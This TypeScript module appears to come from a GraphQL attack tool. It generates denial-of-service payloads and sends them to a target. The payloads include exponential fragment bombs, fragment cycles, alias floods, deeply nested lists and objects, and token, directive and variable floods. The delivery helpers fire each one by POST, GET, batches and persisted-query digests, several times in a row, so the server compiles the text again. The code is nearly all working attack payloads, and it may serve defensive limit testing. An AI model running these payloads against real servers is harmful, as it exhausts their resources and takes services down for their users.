// Documents that cost more than they seem to. Each is within the limit of characters unless its name says otherwise.
import { createHash } from 'node:crypto'
import type { Send } from './attack.ts'
import { ask, type Message, send } from './wire.ts'

const repeat = (count: number, make: (n: number) => string, between = ' ') =>
  Array.from({ length: count }, (_, n) => make(n)).join(between)

/** Each fragment asks for the next one twenty times: 20^5 fields in 1.8 KB. */
export const fragmentBomb = (levels = 5, width = 20) => {
  const level = (n: number) =>
    `fragment F${n} on __Type { ${repeat(width, (at) => `a${at}: ofType { ...F${n + 1} }`)} }`
  return `{ __schema { queryType { ...F0 } } } ${repeat(levels, level)} fragment F${levels} on __Type { name }`
}

/** The same with fields that read rows. */
export const groupBomb = (levels = 6, width = 20) => {
  const next = (n: number, at: number) => `a${at}: group { milestones { nodes { ...F${n + 1} } } }`
  const level = (n: number) => `fragment F${n} on Milestone { ${repeat(width, (at) => next(n, at))} }`
  const entry = '{ group(fullPath: "demo") { milestones { nodes { ...F0 } } } }'
  return `${entry} ${repeat(levels, level)} fragment F${levels} on Milestone { title }`
}

export const inlineFragmentBomb = `{ __schema { queryType { ${'... on __Type { ofType { '.repeat(200)}name${' } }'.repeat(200)} } } }`

export const fragmentCycle =
  '{ __schema { queryType { ...A } } } fragment A on __Type { ...B } fragment B on __Type { ...A }'

export const manyFragments = `{ __typename ${repeat(300, (n) => `...F${n}`)} } ${repeat(300, (n) => `fragment F${n} on Query{__typename}`)}`

/** The server must compare every pair of fields of the same name for conflicts. */
export const overlappingFields = `{ ${repeat(480, () => '__schema{__typename}', '')} }`

export const introspectionAliases = `{ __schema { types { ${repeat(150, (n) => `a${n}: fields { name type { name ofType { name } } args { name } }`)} } } }`

export const typeAliases = `{ ${repeat(150, (n) => `t${n}: __type(name: "Project") { fields { name type { name } } }`)} }`

export const aliasFlood = (path: string, count = 700) =>
  `{ project(fullPath: "${path}") { releases { nodes { ${repeat(count, (n) => `b${n}: name`)} } } } }`

export const projectAliases = `{ ${repeat(200, (n) => `p${n}: project(fullPath: "no/${n}") { id }`)} }`

/** 3 characters a level. */
export const deepSelection = `${'{a'.repeat(3_300)}${'}'.repeat(3_300)}`

const deepValue = (open: string, inside: string, close: string) =>
  `{ project(fullPath: ${open.repeat(3_300)}${inside}${close.repeat(1_600)}) { id } }`

export const deepList = deepValue('[', '1', ']')
export const deepObject = `{ project(fullPath: ${'{a:'.repeat(2_400)}1${'}'.repeat(2_400)}) { id } }`
export const deepVariableType = `query ($a: ${'['.repeat(4_000)}Int${']'.repeat(4_000)}) { __typename }`

export const longName = `{ ${'a'.repeat(9_900)} }`
export const longString = `{ project(fullPath: "${'a'.repeat(9_900)}") { id } }`
export const longBlockString = `{ project(fullPath: """${'\\n '.repeat(3_000)}""") { id } }`
export const manyTokens = `{ ${'a '.repeat(4_900)} }`
export const manyCommas = `{ __typename ${','.repeat(9_900)} }`
export const manyComments = `{ __typename ${'#\n'.repeat(4_900)} }`
export const manyDirectives = `{ __typename ${'@include(if:true)'.repeat(550)} }`
export const unknownDirectives = `{ __typename ${'@a'.repeat(4_900)} }`
export const manyOperations = repeat(600, (n) => `query Q${n}{a:__typename}`)
export const manyVariables = `query (${repeat(800, (n) => `$v${n}:Int`)}) { __typename }`
export const manyArguments = `{ project(${repeat(1_200, (n) => `a${n}:1`)}) { id } }`
export const unclosed = '{ project { '.repeat(800)
export const tooLong = `{ __typename ${' '.repeat(9_000_000)} }`

const json = { 'content-type': 'application/json' }

export const post = (body: unknown, message: Message = {}): Message => ({
  method: 'POST',
  path: '/graphql',
  ...message,
  headers: { ...json, ...message.headers },
  body: JSON.stringify(body),
})

export const asGet = (query: string, message: Message = {}): Message => ({
  ...message,
  path: `/graphql?query=${encodeURIComponent(query)}`,
})

export const batch = (query: string, count = 10): Message =>
  post(Array.from({ length: count }, (_, n) => ({ query: `${query} #${n}` })))

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')

const persisted = (query: string) => ({ persistedQuery: { version: 1, sha256Hash: sha256(query) } })

/** A persisted query as front ends send it: the digest alone, then with the text, then alone again. */
const asPersisted =
  (query: string): Send =>
  async (target) => {
    const extensions = persisted(query)
    const first = await ask(target, post({ extensions }))
    const second = await ask(target, post({ query, extensions }))
    return [first, second, await ask(target, post({ extensions }))]
  }

/** The same text sent through every door, three times in a row, because the server compiles a text that comes again. */
export const ways = (query: string): Record<string, Send> => ({
  'by POST': send(post({ query })),
  'by POST, three times in turn': async (target) => {
    const answers = [await ask(target, post({ query })), await ask(target, post({ query }))]
    return [...answers, await ask(target, post({ query }))]
  },
  'by GET': send(asGet(query)),
  'to /api/graphql': send(post({ query }, { path: '/api/graphql' })),
  'in a batch of ten': send(batch(query)),
  'by its digest': asPersisted(query),
})
